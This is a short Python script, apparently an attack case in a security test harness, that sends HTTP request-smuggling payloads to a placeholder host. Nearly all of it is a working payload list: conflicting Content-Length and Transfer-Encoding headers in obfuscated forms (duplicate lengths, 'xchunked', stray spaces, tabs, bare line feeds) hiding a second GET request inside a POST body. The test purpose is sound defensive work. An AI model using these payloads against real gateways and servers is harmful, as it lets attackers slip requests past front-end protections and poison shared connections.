# Hides a request in the body of another, where gateway and server may disagree about its length.
# none: succeeds; the host looks at which requests its server saw
import attack

INNER = b"GET /smuggled HTTP/1.1\r\nHost: other.example\r\n\r\n"
BODY = b"0\r\n\r\n" + INNER
HEADS = [
    b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n",
    b"Transfer-Encoding: chunked\r\nContent-Length: %d\r\n",
    b"Content-Length: %d\r\nTransfer-Encoding: xchunked\r\n",
    b"Content-Length: %d\r\nTransfer-Encoding : chunked\r\n",
    b"Content-Length: %d\r\nTransfer-Encoding:\tchunked\r\n",
    b"Content-Length: 0\r\nContent-Length: %d\r\n",
    b"Content-Length: %d\r\nX: y\nTransfer-Encoding: chunked\r\n",
    b"Content-Length: +%d\r\n",
    b"Content-Length: %d\r\nTransfer-Encoding: identity, chunked\r\n",
]
for head in HEADS:
    for body in (BODY, INNER):
        made = attack.connect("good.example", 80)
        if made is None:
            continue
        lengths = head.replace(b"%d", b"%d" % len(body))
        attack.talk(made, b"POST / HTTP/1.1\r\nHost: good.example\r\n" + lengths + b"\r\n" + body)
made = attack.connect("good.example", 80)
if made is not None:
    attack.talk(made, INNER)  # plainly, so that it is an attack where nothing protects
attack.held()
